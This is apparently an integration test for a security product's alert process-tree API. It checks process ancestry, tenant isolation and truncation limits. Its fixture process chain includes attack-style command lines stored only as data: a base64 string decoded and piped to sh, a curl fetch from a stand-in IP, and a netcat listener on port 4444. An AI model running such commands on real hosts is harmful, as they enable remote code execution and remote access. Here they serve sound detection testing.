// GET /api/alerts/{id}/process-tree against a real PostgreSQL and server. Process events are stored the way
// the collector stores what the agent's procfs sensor sends: a START timed at the process's own start
// (microseconds), `data` the ProcessEvent as proto3 JSON with the parent's snapshot and the ancestors' entity
// ids, an exec() in place as a further START of the same entity, an EXIT when the process was seen gone.
// A chain systemd → sshd → sshd-session → bash → sh (matched) → {base64, sh → curl (exec) → sleep} with
// decoys: a sibling of sh, an unrelated branch, a child started after the window, a process on another
// agent claiming sh as its parent, and the same entity ids in another tenant with a child of their own.
import { randomUUID } from 'node:crypto';
import type pg from 'pg';
import { ProcessEvent, type IProcess } from '@inosec/protos';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { alertInput, ingestPool, insertNetworkEvent, raiseAlerts } from './support/alerts-fixtures.js';
import {
  startApiHarness,
  type ApiHarness,
  type SeededTenant,
  type SeededUser,
} from './support/api-harness.js';

interface Node {
  entityId: string;
  parentEntityId: string | null;
  pid: number | null;
  name: string | null;
  executable: string | null;
  commandLine: string | null;
  user: string | null;
  firstSeen: string | null;
  actions: string[];
  matched: boolean;
}
interface Tree {
  alertId: string;
  agentId: string | null;
  hostName: string | null;
  window: { from: string; to: string } | null;
  nodes: Node[];
  truncated: boolean;
  unlinkedMatches: number;
}

/** A process as the agent knows it: its snapshot and its lineage. */
interface Proc {
  entityId: string;
  pid: number;
  name: string;
  executable: string;
  commandLine: string;
  user: string;
  /** Start time, µs since the epoch. */
  startUs: bigint;
  parent: Proc | null;
}

/** A row of telemetry.events as the collector writes it. */
interface Row {
  agent_id: string;
  seq: number;
  time_us: string;
  host_name: string;
  sensor: string;
  action: string;
  user_name: string | null;
  process_pid: number | null;
  process_name: string | null;
  process_executable: string | null;
  process_command_line: string | null;
  process_entity_id: string | null;
  parent_entity_id: string | null;
  data: unknown;
}

const JSON_OPTIONS = { enums: String, longs: Number, defaults: false } as const;
const MINUTE_US = 60_000_000n;
const SECOND_US = 1_000_000n;

/** µs since the epoch as ISO-8601 with microseconds (what the collector's alert references carry). */
function isoMicros(us: bigint): string {
  const ms = new Date(Number(us / 1000n)).toISOString();
  return `${ms.slice(0, 23)}${String(us % 1000n).padStart(3, '0')}Z`;
}

/** µs as the API's ISO time (milliseconds). */
const isoMillis = (us: bigint) => new Date(Number(us / 1000n)).toISOString();

function snapshot(p: Proc): IProcess {
  return {
    pid: p.pid,
    ppid: p.parent?.pid ?? 0,
    entityId: p.entityId,
    executable: p.executable,
    name: p.name,
    commandLine: p.commandLine,
    args: p.commandLine.split(' '),
    user: { name: p.user, id: p.user === 'root' ? '0' : '1000' },
    startTimeUnixUs: Number(p.startUs),
  };
}

/** Entity ids of the parent's ancestors, grandparent first, as the agent sends them. */
function ancestorsOf(p: Proc): string[] {
  const ids: string[] = [];
  for (let a = p.parent?.parent ?? null; a !== null; a = a.parent) ids.push(a.entityId);
  return ids;
}

/** The row of a procfs event of `p` (a START at its start time unless `atUs` says otherwise). */
function procfsRow(agent: string, seq: number, action: 'start' | 'exit', p: Proc, atUs?: bigint): Row {
  const payload = ProcessEvent.fromObject({
    action: action === 'start' ? 'ACTION_START' : 'ACTION_EXIT',
    process: snapshot(p),
    ...(p.parent ? { parent: snapshot(p.parent) } : {}),
    ancestorEntityIds: ancestorsOf(p),
  });
  return {
    agent_id: agent,
    seq,
    time_us: String(atUs ?? p.startUs),
    host_name: agent === 'agent-1' ? 'web-01' : agent,
    sensor: 'procfs',
    action,
    user_name: p.user,
    process_pid: p.pid,
    process_name: p.name,
    process_executable: p.executable,
    process_command_line: p.commandLine,
    process_entity_id: p.entityId,
    parent_entity_id: p.parent?.entityId ?? null,
    data: ProcessEvent.toObject(payload, JSON_OPTIONS),
  };
}

/** Stores rows in telemetry.events for `tenantId` (fixture, one statement, exact microsecond times). */
async function store(h: ApiHarness, tenantId: string, rows: Row[]): Promise<void> {
  await h.admin.query(
    `INSERT INTO telemetry.events (tenant_id, agent_id, seq, time, observed_time, sensor, host_name, kind,
       action, user_name, process_pid, process_name, process_executable, process_command_line,
       process_entity_id, parent_entity_id, data)
     SELECT $1::uuid, r.agent_id, r.seq, timestamptz 'epoch' + r.time_us::bigint * interval '1 microsecond',
            timestamptz 'epoch' + r.time_us::bigint * interval '1 microsecond', r.sensor, r.host_name,
            'process', r.action, r.user_name, r.process_pid, r.process_name, r.process_executable,
            r.process_command_line, r.process_entity_id, r.parent_entity_id, r.data
       FROM json_to_recordset($2::json) AS r (agent_id text, seq bigint, time_us text, sensor text,
            host_name text, action text, user_name text, process_pid int, process_name text,
            process_executable text, process_command_line text, process_entity_id text,
            parent_entity_id text, data json)`,
    [tenantId, JSON.stringify(rows)],
  );
}

const ref = (row: Row) => ({ agent_id: row.agent_id, seq: row.seq, time: isoMicros(BigInt(row.time_us)) });

let h: ApiHarness;
let ingest: pg.Pool;
let a: SeededTenant;
let b: SeededTenant;
let tokenA: string;
let tokenB: string;
let nobodyToken: string;

// t0: the matched sh started 2 hours ago (a microsecond part, as real start times have).
const t0 = BigInt(Date.now() - 2 * 3_600_000) * 1000n + 417n;
const proc = (
  entityId: string,
  pid: number,
  name: string,
  commandLine: string,
  startUs: bigint,
  parent: Proc | null,
  user = 'root',
): Proc => ({
  entityId,
  pid,
  name,
  executable: `/usr/bin/${name}`,
  commandLine,
  user,
  startUs,
  parent,
});
// systemd started 40 days ago: beyond retention, so its own START is not stored; sshd's event tells of it.
const systemd = proc('E-systemd', 1, 'systemd', '/sbin/init', t0 - 40n * 24n * 60n * MINUTE_US, null);
const sshd = proc('E-sshd', 812, 'sshd', 'sshd: /usr/sbin/sshd -D', t0 - 2n * 24n * 60n * MINUTE_US, systemd);
const session = proc('E-session', 4100, 'sshd', 'sshd: alice [priv]', t0 - 10n * MINUTE_US, sshd);
const bash = proc('E-bash', 4101, 'bash', '-bash', t0 - 9n * MINUTE_US, session, 'alice');
const sh = proc('E-sh', 4200, 'sh', 'sh -c echo c2xlZXAgMwo= | base64 -d | sh', t0, bash, 'alice');
const base64 = proc('E-base64', 4201, 'base64', 'base64 -d', t0 + SECOND_US, sh, 'alice');
const inner = proc('E-inner', 4202, 'sh', 'sh', t0 + SECOND_US + 200_000n, sh, 'alice');
const curl = {
  ...inner,
  name: 'curl',
  executable: '/usr/bin/curl',
  commandLine: 'curl -s http://198.51.100.7/x',
};
const sleep = proc('E-sleep', 4203, 'sleep', 'sleep 3', t0 + 2n * SECOND_US, curl, 'alice');
const late = proc('E-late', 4290, 'nc', 'nc -l 4444', t0 + 30n * MINUTE_US, sh, 'alice');
const sibling = proc('E-ls', 4300, 'ls', 'ls -la', t0 + 5n * SECOND_US, bash, 'alice');
const cron = proc('E-cron', 900, 'cron', '/usr/sbin/cron -f', t0 - 2n * 24n * 60n * MINUTE_US, systemd);
const backup = proc('E-backup', 4400, 'backup', 'backup --all', t0 + 3n * SECOND_US, cron);

let shRow: Row;
let treeAlert: string; // A's alert on the sh event
let alertB: string; // B's alert on its own sh event (same entity ids)
let networkAlert: string;
let auditdAlert: string;
let wideAlert: string;
let deepAlert: string;
let wideChildren: Proc[];
let deepChain: Proc[];

beforeAll(async () => {
  h = await startApiHarness();
  ingest = await ingestPool(h);
  a = await h.seedTenant('ptree-a');
  b = await h.seedTenant('ptree-b');
  const { rows } = await h.admin.query<{ id: string }>(
    `INSERT INTO inosec.roles (tenant_id, name, permissions) VALUES ($1, 'nobody', '{tenant:read}') RETURNING id`,
    [a.id],
  );
  a.roles['nobody'] = rows[0]!.id;
  const viewer: SeededUser = await h.seedUser(a, { roles: ['viewer'] });
  tokenA = await h.tokenFor(viewer);
  tokenB = await h.tokenFor(await h.seedUser(b, { roles: ['analyst'] }));
  nobodyToken = await h.tokenFor(await h.seedUser(a, { roles: ['nobody'] }));

  // The main chain on agent-1, in the order the agent would have sent it.
  let seq = 0;
  const next = () => (seq += 1);
  const chain: Row[] = [
    procfsRow('agent-1', next(), 'start', sshd),
    procfsRow('agent-1', next(), 'start', cron),
    procfsRow('agent-1', next(), 'start', session),
    procfsRow('agent-1', next(), 'start', bash),
  ];
  shRow = procfsRow('agent-1', next(), 'start', sh);
  chain.push(
    shRow,
    procfsRow('agent-1', next(), 'start', base64),
    procfsRow('agent-1', next(), 'exit', base64, base64.startUs + 50_000n),
    procfsRow('agent-1', next(), 'start', inner),
    procfsRow('agent-1', next(), 'start', curl), // exec() in place: same entity, same start time
    procfsRow('agent-1', next(), 'start', sleep),
    procfsRow('agent-1', next(), 'start', backup),
    procfsRow('agent-1', next(), 'start', sibling),
    procfsRow('agent-1', next(), 'exit', sleep, t0 + 5n * SECOND_US),
    procfsRow('agent-1', next(), 'exit', sh, t0 + 6n * SECOND_US),
    procfsRow('agent-1', next(), 'exit', session, t0 + 10n * MINUTE_US),
    procfsRow('agent-1', next(), 'start', late),
  );
  // Another agent of the same tenant whose event names sh's entity id as its parent.
  const impostor = proc('E-impostor', 4201, 'impostor', 'impostor', t0 + SECOND_US, sh);
  chain.push(procfsRow('agent-2', 1, 'start', impostor));
  await store(h, a.id, chain);

  // Tenant B: the very same entity ids on an agent of the same id, plus a child of sh of its own.
  const evil = proc('E-evil-b', 5000, 'evil-b', 'evil-b --tenant-b', t0 + 2n * SECOND_US, sh);
  const bRows = [
    procfsRow('agent-1', 1, 'start', bash),
    procfsRow('agent-1', 2, 'start', sh),
    procfsRow('agent-1', 3, 'start', evil),
  ];
  await store(h, b.id, bRows);

  // A non-process alert (a network event) and a process event without entity id (as the auditd sensor sends).
  const networkTime = isoMicros(t0 + 7n * SECOND_US);
  await insertNetworkEvent(h, a.id, { agentId: 'agent-1', seq: 100, time: networkTime });
  const auditdPayload = ProcessEvent.fromObject({
    action: 'ACTION_START',
    process: {
      pid: 4500,
      ppid: bash.pid,
      executable: '/usr/bin/id',
      name: 'id',
      commandLine: 'id',
      startTimeUnixUs: Number(t0 + 8n * SECOND_US),
    },
    parent: { pid: bash.pid },
  });
  const auditd: Row = {
    agent_id: 'agent-1',
    seq: 101,
    time_us: String(t0 + 8n * SECOND_US),
    host_name: 'web-01',
    sensor: 'auditd',
    action: 'start',
    user_name: 'alice',
    process_pid: 4500,
    process_name: 'id',
    process_executable: '/usr/bin/id',
    process_command_line: 'id',
    process_entity_id: null,
    parent_entity_id: null,
    data: ProcessEvent.toObject(auditdPayload, JSON_OPTIONS),
  };
  await store(h, a.id, [auditd]);

  // 600 children of one process on agent-3 (the node bound), and a chain of 20 on agent-4 (the depth bound).
  const spawner = proc('E-spawner', 7000, 'spawner', 'spawner --fork 600', t0, null);
  wideChildren = Array.from({ length: 600 }, (_, i) =>
    proc(
      `E-child-${String(i).padStart(3, '0')}`,
      7001 + i,
      'worker',
      `worker ${i}`,
      t0 + BigInt(i + 1) * 1000n,
      spawner,
    ),
  );
  const wideRows = [spawner, ...wideChildren].map((p, i) => procfsRow('agent-3', i + 1, 'start', p));
  deepChain = [];
  for (let i = 0; i < 20; i += 1) {
    deepChain.push(
      proc(
        `E-deep-${i}`,
        8000 + i,
        `p${i}`,
        `p${i}`,
        t0 - BigInt(20 - i) * SECOND_US,
        deepChain[i - 1] ?? null,
      ),
    );
  }
  const deepRows = deepChain.map((p, i) => procfsRow('agent-4', i + 1, 'start', p));
  await store(h, a.id, [...wideRows, ...deepRows]);

  const at = isoMicros(t0);
  const raised = await raiseAlerts(ingest, a.id, [
    alertInput({ host_name: 'web-01', first_seen: at, last_seen: at, events: [ref(shRow)] }),
    alertInput({
      host_name: 'web-01',
      first_seen: networkTime,
      last_seen: networkTime,
      events: [{ agent_id: 'agent-1', seq: 100, time: networkTime }],
    }),
    alertInput({ host_name: 'web-01', first_seen: at, last_seen: at, events: [ref(auditd)] }),
    alertInput({
      agent_id: 'agent-3',
      host_name: 'batch-01',
      first_seen: at,
      last_seen: at,
      events: [ref(wideRows[0]!)],
    }),
    alertInput({
      agent_id: 'agent-4',
      host_name: 'deep-01',
      first_seen: at,
      last_seen: at,
      events: [ref(deepRows[19]!)],
    }),
  ]);
  [treeAlert, networkAlert, auditdAlert, wideAlert, deepAlert] = raised.map((r) => r.id) as [
    string,
    string,
    string,
    string,
    string,
  ];
  const [rb] = await raiseAlerts(ingest, b.id, [
    alertInput({ host_name: 'web-01', first_seen: at, last_seen: at, events: [ref(bRows[1]!)] }),
  ]);
  alertB = rb!.id;
}, 120_000);

afterAll(async () => {
  await ingest?.end();
  await h?.close();
});

const get = (id: string, token: string) =>
  h.request<Tree>('GET', `/api/alerts/${id}/process-tree`, { token });

/** What the API answers for a stored process (its latest snapshot). */
function node(p: Proc, actions: string[], matched = false): Node {
  return {
    entityId: p.entityId,
    parentEntityId: p.parent?.entityId ?? null,
    pid: p.pid,
    name: p.name,
    executable: p.executable,
    commandLine: p.commandLine,
    user: p.user,
    firstSeen: isoMillis(p.startUs),
    actions,
    matched,
  };
}

describe('GET /api/alerts/{id}/process-tree', () => {
  it('answers the ancestry, the matched process and its descendants in the window, on the alert’s agent only', async () => {
    const res = await get(treeAlert, tokenA);
    expect(res.status).toBe(200);
    expect(res.body).toEqual({
      alertId: treeAlert,
      agentId: 'agent-1',
      hostName: 'web-01',
      window: { from: isoMillis(t0), to: isoMillis(t0 + 15n * MINUTE_US) },
      truncated: false,
      unlinkedMatches: 0,
      nodes: [
        // Its START is not stored: what sshd's event says of its parent, with no actions.
        { ...node(systemd, []), firstSeen: isoMillis(systemd.startUs) },
        node(sshd, ['start']),
        node(session, ['start', 'exit']),
        node(bash, ['start']),
        node(sh, ['start', 'exit'], true),
        node(base64, ['start', 'exit']),
        // The exec() in place: one process, shown as what it became.
        node(curl, ['start', 'exec']),
        node(sleep, ['start', 'exit']),
      ],
    });
    const ids = res.body.nodes.map((n) => n.entityId);
    // Not in the tree: sh's sibling, the unrelated branch, the child started after the window, the other
    // agent's process naming sh as its parent, and tenant B's child of the same entity id.
    for (const absent of ['E-ls', 'E-cron', 'E-backup', 'E-late', 'E-impostor', 'E-evil-b'])
      expect(ids).not.toContain(absent);
    expect(JSON.stringify(res.body)).not.toContain('tenant-b');
    // One root: the chain's top.
    const roots = res.body.nodes.filter((n) => !ids.includes(n.parentEntityId ?? ''));
    expect(roots.map((n) => n.entityId)).toEqual(['E-systemd']);
  });

  it('shows tenant B its own tree over the same entity ids, never tenant A’s processes', async () => {
    const res = await get(alertB, tokenB);
    expect(res.status).toBe(200);
    expect(res.body.nodes.map((n) => [n.entityId, n.matched, n.actions])).toEqual([
      // B stored no START of bash's parent: bash's own event tells of it. A's stored events of the same
      // entity id (its START and EXIT) are not B's.
      ['E-session', false, []],
      ['E-bash', false, ['start']],
      ['E-sh', true, ['start']],
      ['E-evil-b', false, ['start']],
    ]);
    expect(res.body.nodes[0]).toEqual({ ...node(session, []), parentEntityId: 'E-sshd' });
    expect(res.body.nodes.at(-1)).toEqual(
      node(proc('E-evil-b', 5000, 'evil-b', 'evil-b --tenant-b', t0 + 2n * SECOND_US, sh), ['start']),
    );
  });

  it('answers 404 for another tenant’s alert or an unknown id, 400 for a malformed id, 401 and 403', async () => {
    const foreign = await h.request<{ status: number; code: string }>(
      'GET',
      `/api/alerts/${alertB}/process-tree`,
      { token: tokenA },
    );
    expect(foreign.status).toBe(404);
    expect(foreign.body.code).toBe('not_found');
    expect((await get(treeAlert, tokenB)).status).toBe(404);
    expect((await get(randomUUID(), tokenA)).status).toBe(404);
    expect((await get('not-a-uuid', tokenA)).status).toBe(400);
    expect((await h.request('GET', `/api/alerts/${treeAlert}/process-tree`)).status).toBe(401);
    expect((await get(treeAlert, nobodyToken)).status).toBe(403);
  });

  it('answers no nodes for an alert without process events, and counts process events it cannot place', async () => {
    const network = await get(networkAlert, tokenA);
    expect(network.status).toBe(200);
    expect(network.body).toEqual({
      alertId: networkAlert,
      agentId: 'agent-1',
      hostName: 'web-01',
      window: null,
      nodes: [],
      truncated: false,
      unlinkedMatches: 0,
    });
    const auditd = await get(auditdAlert, tokenA);
    expect(auditd.status).toBe(200);
    expect(auditd.body).toMatchObject({ nodes: [], window: null, truncated: false, unlinkedMatches: 1 });
  });

  it('stops at 500 nodes, keeping the earliest descendants, and says it did', async () => {
    const res = await get(wideAlert, tokenA);
    expect(res.status).toBe(200);
    expect(res.body.truncated).toBe(true);
    expect(res.body.nodes).toHaveLength(500);
    expect(res.body.nodes[0]).toMatchObject({ entityId: 'E-spawner', matched: true, parentEntityId: null });
    expect(res.body.nodes.slice(1).map((n) => n.entityId)).toEqual(
      wideChildren.slice(0, 499).map((p) => p.entityId),
    );
    expect(res.body.nodes.filter((n) => n.matched)).toHaveLength(1);
  });

  it('walks up at most 16 ancestors and says there are more', async () => {
    const res = await get(deepAlert, tokenA);
    expect(res.status).toBe(200);
    expect(res.body.truncated).toBe(true);
    // p19 is matched; p18 .. p3 are its 16 ancestors; p2 (and above) are left out.
    expect(res.body.nodes.map((n) => n.entityId)).toEqual(deepChain.slice(3).map((p) => p.entityId));
    expect(res.body.nodes[0]!.parentEntityId).toBe('E-deep-2');
    expect(res.body.nodes.at(-1)).toMatchObject({ entityId: 'E-deep-19', matched: true, actions: ['start'] });
  });
});
